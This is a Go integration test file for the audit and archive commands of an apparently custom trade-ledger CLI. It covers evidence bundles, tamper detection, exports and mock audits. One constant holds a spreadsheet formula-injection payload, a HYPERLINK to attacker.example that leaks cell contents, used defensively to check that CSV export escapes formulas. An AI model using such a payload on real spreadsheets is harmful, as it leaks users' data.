package audit_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/aeoledger/aeoledger/client"
	"github.com/aeoledger/aeoledger/client/keystore"
	"github.com/aeoledger/aeoledger/cmd/aeoledger/internal/cmdtest"
	"github.com/aeoledger/aeoledger/cmd/aeoledger/internal/cmdutil"
	"github.com/aeoledger/aeoledger/cmd/aeoledger/internal/command/audit"
	"github.com/aeoledger/aeoledger/network/profile"
	"github.com/aeoledger/aeoledger/schemas"
	"github.com/aeoledger/aeoledger/workers/audit/bundle"
	"github.com/aeoledger/aeoledger/workers/audit/mock"
)

// injection is an amendment reason a spreadsheet would run as a formula.
const injection = `=HYPERLINK("http://attacker.example/?leak="&A1,"click")`

// world is a running dev network with evidence recorded through the SDK,
// the way partners record it.
type world struct {
	net         *cmdtest.Network
	shipment    string
	declID      string
	sensorRecID string // readings with an excursion nobody answered
	today       string
}

func seed(t *testing.T) *world {
	t.Helper()
	n := cmdtest.StartNetwork(t)
	ctx := context.Background()
	p, err := profile.Load(n.Profile)
	require.NoError(t, err)
	keyDir := filepath.Join(n.Dir, "keys")
	ks, err := keystore.Open(keyDir)
	require.NoError(t, err)
	pass, err := keystore.ResolvePassphrase(keystore.PassphraseSource{Getenv: func(string) string { return "" }, DevDir: keyDir})
	require.NoError(t, err)
	clients := map[string]*client.Client{}
	as := func(msp, id string) *client.Client {
		if c, ok := clients[msp+id]; ok {
			return c
		}
		c, err := client.ConnectProfile(p, msp, id)
		require.NoError(t, err)
		t.Cleanup(func() { _ = c.Close() })
		clients[msp+id] = c
		return c
	}
	keys := map[string]*ecdsa.PrivateKey{}
	for _, ps := range []struct{ id, msp, key, role, country string }{
		{"acme-export", "ExporterMSP", "exporter", schemas.RoleExporter, "NL"},
		{"nordic-lines", "CarrierMSP", "carrier", schemas.RoleCarrier, "DK"},
		{"reefer-sensor-7", "CarrierMSP", "reefer-sensor", schemas.RoleDevice, "DK"},
		{"customs-hamburg", "CustomsMSP", "customs", schemas.RoleCustoms, "DE"},
		{"fresh-foods", "ImporterMSP", "importer", schemas.RoleImporter, "DE"},
	} {
		k, err := ks.Load(ps.key, pass)
		require.NoError(t, err)
		keys[ps.key] = k
		_, err = as(ps.msp, "admin").RegisterPartner(ctx, schemas.Partner{ID: ps.id, MSPID: ps.msp, LegalName: ps.id, Country: ps.country,
			Roles: []string{ps.role}, Keys: []schemas.SigningKey{schemas.NewSigningKey(k, ps.key)}})
		require.NoError(t, err)
	}
	w := &world{net: n, shipment: "SHP-AUDIT-1", declID: "DECL-AUDIT-1", today: time.Now().UTC().Format(time.DateOnly)}
	base := "MSCU712345"
	d, err := schemas.ContainerCheckDigit(base)
	require.NoError(t, err)
	box := base + strconv.Itoa(d)
	now := time.Now().UTC().Truncate(time.Minute)
	at := func(min int) time.Time { return now.Add(time.Duration(min-300) * time.Minute) }
	_, err = as("ExporterMSP", "user1").CreateShipment(ctx, schemas.Shipment{ID: w.shipment,
		Consignor: schemas.Party{PartnerID: "acme-export", Name: "Acme", Country: "NL"},
		Consignee: schemas.Party{PartnerID: "fresh-foods", Name: "Fresh Foods", Country: "DE"},
		Parties:   []string{"nordic-lines", "reefer-sensor-7", "customs-hamburg"}, Origin: "NLRTM", Destination: "DEHAM", HSCodes: []string{"080810"},
		TemperatureRange: &schemas.TemperatureRange{Min: 1, Max: 4},
		PlannedDeparture: at(60).Format(time.RFC3339), PlannedArrival: at(600).Format(time.RFC3339)})
	require.NoError(t, err)
	record := func(msp, key string, tp *schemas.Touchpoint) string {
		res, err := as(msp, "user1").RecordTouchpoint(ctx, keys[key], tp)
		require.NoError(t, err)
		return res.Records[0].Record.ID
	}
	record("ExporterMSP", "exporter", client.ContainerTouchpoint(w.shipment, at(0), "NLRTM", schemas.ContainerEvent{Number: box, Action: schemas.ContainerGateIn}))
	record("CarrierMSP", "carrier", client.SealTouchpoint(w.shipment, at(10), "NLRTM",
		schemas.SealEvent{Class: schemas.SealHighSecurity, Number: "H-0042-7788", ContainerNumber: box, Action: schemas.SealAffixed}))
	record("CarrierMSP", "carrier", client.ContainerTouchpoint(w.shipment, at(20), "NLRTM", schemas.ContainerEvent{Number: box, Action: schemas.ContainerLoaded, Vessel: "MV Aurora"}))
	var readings []schemas.SensorReading
	for i, c := range []float64{2.1, 6.5, 2.4} {
		readings = append(readings, schemas.SensorReading{Time: at(30 + i).Format(time.RFC3339), Temperature: &c})
	}
	w.sensorRecID = record("CarrierMSP", "reefer-sensor", client.SensorTouchpoint(w.shipment, at(40), "NLRTM", "reefer-sensor-7", readings))

	importer := as("ImporterMSP", "user1")
	_, err = importer.SubmitDeclaration(ctx, schemas.Declaration{ID: w.declID, Date: w.today, OfficeID: "30", ProcessType: "B", ImportType: "11",
		ImportUse: "21", PaymentType: "11", ModeOfTransport: "10", DeclarantID: "ZZR1LT6", ImporterID: "QLRUBN9", SellerID: "0VKY2BR",
		HSCode: "080810", CountryOfDeparture: "NL", CountryOfOrigin: "NL", TaxRate: 8, TaxType: "A", OriginIndicator: "G",
		NetMass: 21600, ItemPrice: 35000, ShipmentID: w.shipment})
	require.NoError(t, err)
	a, err := importer.AmendDeclaration(ctx, schemas.Amendment{DeclarationID: w.declID, Field: "netMass", OldValue: "21600", NewValue: "21450", Reason: injection})
	require.NoError(t, err)
	_, err = as("ImporterMSP", "user2").ApproveAmendment(ctx, w.declID, a.ID)
	require.NoError(t, err)
	return w
}

// run executes an audit subcommand as identity msp and returns its exit
// code and output.
func (w *world) run(t *testing.T, msp string, args ...string) (cmdutil.ExitCode, string, error) {
	t.Helper()
	f, out, _ := cmdtest.Factory(w.net.Env(msp))
	err := cmdtest.Exec(audit.NewCmdAudit(f), args...)
	return cmdutil.ExitCodeFor(err), out.String(), err
}

func TestAuditCommandsOnARealEmbeddedPeer(t *testing.T) {
	if testing.Short() {
		t.Skip("starts an embedded peer")
	}
	w := seed(t)
	dir := t.TempDir()
	evidence := filepath.Join(dir, "evidence.json")

	code, out, err := w.run(t, "CustomsMSP", "bundle", "--shipment", w.shipment, "--out", evidence, "--json")
	require.Equal(t, cmdutil.ExitOK, code, "%v", err)
	var res audit.BundleResult
	require.NoError(t, json.Unmarshal([]byte(out), &res))
	raw, err := os.ReadFile(evidence)
	require.NoError(t, err)
	assert.Equal(t, bundle.FileHash(raw), res.SHA256, "the printed hash is the file's SHA-256")
	assert.Equal(t, 5, res.Kinds[bundle.KindTouchpoint], "every touchpoint of the shipment and the contract's incident")
	assert.Equal(t, 1, res.Kinds[bundle.KindShipment])
	assert.Equal(t, 2, res.Kinds[bundle.KindDeclaration], "as submitted, then as amended")
	assert.GreaterOrEqual(t, res.Kinds[bundle.KindAmendment], 1)
	require.NotEmpty(t, res.Orgs)

	code, out, err = w.run(t, "CustomsMSP", "anchor")
	require.Equal(t, cmdutil.ExitOK, code, "%v", err)
	head := strings.TrimSpace(out)
	assert.Equal(t, res.Checkpoint, head, "nothing was committed since the bundle was built, so its checkpoint is the head")

	t.Run("the bundle verifies offline with the head as trust anchor and pinned CAs", func(t *testing.T) {
		args := []string{"verify", evidence, "--trust-anchor", head}
		for _, o := range res.Orgs {
			for _, fp := range o.Fingerprints {
				args = append(args, "--trust-ca", fp)
			}
		}
		f, out, _ := cmdtest.Factory(map[string]string{cmdutil.EnvProfile: filepath.Join(dir, "no-such-profile.yaml")})
		err := cmdtest.Exec(audit.NewCmdAudit(f), args...)
		require.NoError(t, err, out.String())
		assert.Contains(t, out.String(), "RESULT: VERIFIED - ")
		assert.Contains(t, out.String(), "PASS touchpoint "+w.sensorRecID)
	})

	t.Run("a bundle built with --tx verifies too", func(t *testing.T) {
		var b bundle.Bundle
		require.NoError(t, json.Unmarshal(raw, &b))
		byTx := filepath.Join(dir, "tx.json")
		code, _, err := w.run(t, "CustomsMSP", "bundle", "--tx", b.Items[0].TxID, "--out", byTx)
		require.Equal(t, cmdutil.ExitOK, code, "%v", err)
		code, out, err := w.run(t, "CustomsMSP", "verify", byTx, "--json")
		require.Equal(t, cmdutil.ExitOK, code, "%v", err)
		var v bundle.Verdict
		require.NoError(t, json.Unmarshal([]byte(out), &v))
		assert.True(t, v.OK)
		assert.False(t, v.Anchored, "no trust anchor was given")
	})

	tamperCases := []struct {
		name     string
		edit     func(t *testing.T, raw []byte) []byte
		category string
	}{
		{"a changed record value fails the record", func(t *testing.T, raw []byte) []byte {
			return replaceOnce(t, raw, `"vessel":"MV Aurora"`, `"vessel":"MV Aurorb"`)
		}, bundle.CatRecord},
		{"a changed checksum fails the bundle", func(t *testing.T, raw []byte) []byte {
			i := bytes.Index(raw, []byte(`"digest":"`)) + len(`"digest":"`)
			out := bytes.Clone(raw)
			out[i] = flipHex(out[i])
			return out
		}, bundle.CatBundle},
		{"a changed previous hash fails the block link", func(t *testing.T, raw []byte) []byte {
			i := bytes.LastIndex(raw, []byte(`"previousHash":"`)) + len(`"previousHash":"`)
			out := bytes.Clone(raw)
			out[i] = flipHex(out[i])
			return out
		}, bundle.CatBlockLink},
	}
	for _, tc := range tamperCases {
		t.Run(tc.name, func(t *testing.T) {
			bad := filepath.Join(t.TempDir(), "bad.json")
			require.NoError(t, os.WriteFile(bad, tc.edit(t, raw), 0o600))
			code, out, err := w.run(t, "CustomsMSP", "verify", bad, "--trust-anchor", head)
			assert.Equal(t, cmdutil.ExitVerifyFailed, code)
			require.Error(t, err)
			assert.Contains(t, err.Error(), "verifying evidence bundle "+bad+": failed ")
			assert.Contains(t, err.Error(), tc.category)
			assert.Contains(t, out, "RESULT: FAILED")
		})
	}

	t.Run("bad input writes nothing", func(t *testing.T) {
		cases := []struct {
			name    string
			args    []string
			code    cmdutil.ExitCode
			wantErr string
			file    string
		}{
			{"an unknown shipment is not found", []string{"bundle", "--shipment", "NO-SUCH", "--out", "$DIR/none.json"}, cmdutil.ExitNotFound,
				"building bundle: no matching ledger object for shipment NO-SUCH", "none.json"},
			{"a malformed trust anchor is invalid", []string{"verify", evidence, "--trust-anchor", "head"}, cmdutil.ExitInvalid,
				`field=trust-anchor value="head" rule=must be BLOCK:HEADERHASH`, ""},
			{"a malformed HS prefix is invalid", []string{"export", "--from", "2026-01-01", "--to", "2026-12-31", "--hs", "08x", "--out", "$DIR/x.csv", "--db", "$DIR/rm.db"},
				cmdutil.ExitInvalid, `field=hs value="08x" rule=must be 1 to 10 digits`, "x.csv"},
			{"an export without rows has nothing to bundle", []string{"export", "--from", "2001-01-01", "--to", "2001-12-31", "--out", "$DIR/y.csv",
				"--db", "$DIR/rm.db", "--bundle", "$DIR/y.json"}, cmdutil.ExitInvalid, `field=--bundle value="`, "y.csv"},
			{"a malformed mock period is invalid", []string{"mock", "--from", "03/01/2026", "--db", "$DIR/rm.db"}, cmdutil.ExitInvalid,
				`field=--from value="03/01/2026" rule=must be a date YYYY-MM-DD`, ""},
		}
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				d := t.TempDir()
				args := make([]string, len(tc.args))
				for i, a := range tc.args {
					args[i] = strings.ReplaceAll(a, "$DIR", d)
				}
				code, _, err := w.run(t, "CustomsMSP", args...)
				assert.Equal(t, tc.code, code)
				require.ErrorContains(t, err, tc.wantErr)
				if tc.file != "" {
					entries, err := os.ReadDir(d)
					require.NoError(t, err)
					for _, e := range entries {
						assert.NotEqual(t, tc.file, e.Name(), "nothing may be written")
						assert.NotContains(t, e.Name(), ".json", "no bundle may be written")
					}
				}
			})
		}
	})

	db := filepath.Join(dir, "readmodel.db")
	t.Run("exports in every format, the PDF with its evidence bundle", func(t *testing.T) {
		for _, format := range []string{"csv", "xlsx", "pdf"} {
			t.Run(format, func(t *testing.T) {
				out := filepath.Join(dir, "audit."+format)
				args := []string{"export", "--from", "2000-01-01", "--to", "2099-12-31", "--out", out, "--db", db, "--json"}
				bundlePath := filepath.Join(dir, "audit-"+format+".json")
				if format == "pdf" {
					args = append(args, "--bundle", bundlePath)
				}
				code, stdout, err := w.run(t, "CustomsMSP", args...)
				require.Equal(t, cmdutil.ExitOK, code, "%v", err)
				var res audit.ExportResult
				require.NoError(t, json.Unmarshal([]byte(stdout), &res))
				assert.Positive(t, res.Rows)
				content, err := os.ReadFile(out)
				require.NoError(t, err)
				require.NotEmpty(t, content)
				switch format {
				case "csv":
					rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
					require.NoError(t, err)
					assert.EqualValues(t, res.Rows+1, len(rows), "a header and one line per row")
					found := false
					for _, row := range rows {
						for _, cell := range row {
							assert.NotRegexp(t, `^[=+\-@]`, cell, "no cell may start a formula")
							found = found || cell == "'"+injection
						}
					}
					assert.True(t, found, "the amendment reason is exported, escaped")
				case "xlsx":
					assert.Equal(t, "PK", string(content[:2]), "an XLSX file is a zip")
				case "pdf":
					assert.Equal(t, "%PDF", string(content[:4]))
					braw, err := os.ReadFile(bundlePath)
					require.NoError(t, err)
					assert.Equal(t, bundle.FileHash(braw), res.BundleSHA256)
					v := bundle.VerifyBytes(braw, bundle.TrustAnchor{})
					assert.True(t, v.OK, "%v", v.Failures())
					assert.Equal(t, res.BundleRecords, len(v.Items))
				}
			})
		}
	})

	t.Run("the mock audit finds the excursion nobody answered", func(t *testing.T) {
		pdf := filepath.Join(dir, "findings.pdf")
		code, stdout, err := w.run(t, "CustomsMSP", "mock", "--from", "2000-01-01", "--to", "2099-12-31", "--db", db, "--json", "--pdf", pdf)
		require.Equal(t, cmdutil.ExitOK, code, "%v", err)
		var rep mock.Report
		require.NoError(t, json.Unmarshal([]byte(stdout), &rep))
		var checks []string
		for _, f := range rep.Findings {
			checks = append(checks, f.Check)
			if f.Check == mock.CheckNoResponse {
				assert.Contains(t, f.Records, w.sensorRecID)
			}
		}
		assert.Equal(t, []string{mock.CheckNoResponse}, checks)
		content, err := os.ReadFile(pdf)
		require.NoError(t, err)
		assert.Equal(t, "%PDF", string(content[:4]))

		code, stdout, err = w.run(t, "CustomsMSP", "mock", "--db", db, "--no-catch-up")
		require.Equal(t, cmdutil.ExitOK, code, "%v", err)
		assert.Contains(t, stdout, mock.CheckNoResponse)
	})
}

func TestArchiveCommandsOnARealEmbeddedPeer(t *testing.T) {
	if testing.Short() {
		t.Skip("starts an embedded peer")
	}
	w := seed(t)
	dir := t.TempDir()
	arc := filepath.Join(dir, "archive")
	db := filepath.Join(dir, "rm.db")
	doc := []byte("%PDF-1.4\ncommercial invoice INV-77 for " + w.shipment + "\n%%EOF\n")
	docPath := filepath.Join(dir, "INV-77.pdf")
	require.NoError(t, os.WriteFile(docPath, doc, 0o600))
	sum := client.DocumentHash(doc)

	code, out, err := w.run(t, "ExporterMSP", "archive", "put", docPath, "--type", "invoice", "--owner", "acme-export", "--shipment", w.shipment, "--archive", arc)
	require.Equal(t, cmdutil.ExitOK, code, "%v", err)
	assert.Contains(t, out, "archived INV-77.pdf")
	assert.Contains(t, out, "as "+sum)
	assert.Contains(t, out, "anchored on the ledger by ExporterMSP")

	got := filepath.Join(dir, "copy.pdf")
	code, out, err = w.run(t, "CustomsMSP", "archive", "get", sum, "--out", got, "--archive", arc)
	require.Equal(t, cmdutil.ExitOK, code, "%v", err)
	assert.Contains(t, out, "the read is in the access log as CustomsMSP/user1")
	copied, err := os.ReadFile(got)
	require.NoError(t, err)
	assert.Equal(t, doc, copied)

	code, out, err = w.run(t, "CustomsMSP", "archive", "anchor-log", "--archive", arc)
	require.Equal(t, cmdutil.ExitOK, code, "%v", err)
	assert.Contains(t, out, "anchored access log entries 0-1 (2)")
	code, out, _ = w.run(t, "CustomsMSP", "archive", "anchor-log", "--archive", arc)
	require.Equal(t, cmdutil.ExitOK, code)
	assert.Contains(t, out, "nothing new")

	code, out, err = w.run(t, "CustomsMSP", "archive", "verify", "--archive", arc, "--db", db)
	require.Equal(t, cmdutil.ExitOK, code, "%v\n%s", err, out)
	assert.Contains(t, out, "1 documents anchored, 1 intact")

	t.Run("a document of a refused media type is neither stored nor anchored", func(t *testing.T) {
		exe := filepath.Join(dir, "tool.bin")
		require.NoError(t, os.WriteFile(exe, []byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0}, 0o600))
		before, err := os.ReadFile(filepath.Join(arc, "access.log"))
		require.NoError(t, err)
		code, _, err := w.run(t, "ExporterMSP", "archive", "put", exe, "--type", "invoice", "--owner", "acme-export", "--archive", arc)
		assert.Equal(t, cmdutil.ExitInvalid, code)
		require.ErrorContains(t, err, `field=mediaType value="application/octet-stream"`)
		after, err := os.ReadFile(filepath.Join(arc, "access.log"))
		require.NoError(t, err)
		assert.Equal(t, before, after, "nothing was logged")
	})

	// Someone edits the archived bytes on disk.
	obj := filepath.Join(arc, "objects", sum[:2], sum[2:4], sum)
	require.NoError(t, os.Chmod(obj, 0o600))
	require.NoError(t, os.WriteFile(obj, bytes.Replace(doc, []byte("INV-77"), []byte("INV-78"), 1), 0o600))

	tampered := []struct {
		name string
		args []string
		want string
	}{
		{"get refuses the tampered document", []string{"archive", "get", sum, "--out", filepath.Join(dir, "t.pdf"), "--archive", arc}, "document " + sum + " is tampered"},
		{"verify reports it", []string{"archive", "verify", "--archive", arc, "--db", db}, "verifying archive " + arc + ": 1 problem(s)"},
	}
	for _, tc := range tampered {
		t.Run(tc.name, func(t *testing.T) {
			code, _, err := w.run(t, "CustomsMSP", tc.args...)
			assert.Equal(t, cmdutil.ExitVerifyFailed, code)
			require.ErrorContains(t, err, tc.want)
		})
	}
	_, err = os.Stat(filepath.Join(dir, "t.pdf"))
	assert.ErrorIs(t, err, os.ErrNotExist, "a tampered document is not written out")

	code, out, err = w.run(t, "CustomsMSP", "mock", "--db", db, "--archive", arc, "--json")
	require.Equal(t, cmdutil.ExitOK, code, "%v", err)
	var rep mock.Report
	require.NoError(t, json.Unmarshal([]byte(out), &rep))
	var found bool
	for _, f := range rep.Findings {
		if f.Check == mock.CheckDocumentTampered {
			found = true
			assert.Equal(t, []string{sum}, f.Records)
		}
	}
	assert.True(t, found, "the mock audit reports the tampered document: %+v", rep.Findings)
}

func replaceOnce(t *testing.T, raw []byte, old, new string) []byte {
	t.Helper()
	require.Equal(t, 1, bytes.Count(raw, []byte(old)), "%s must occur once", old)
	return bytes.Replace(raw, []byte(old), []byte(new), 1)
}

func flipHex(c byte) byte {
	if c == '0' {
		return '1'
	}
	return '0'
}
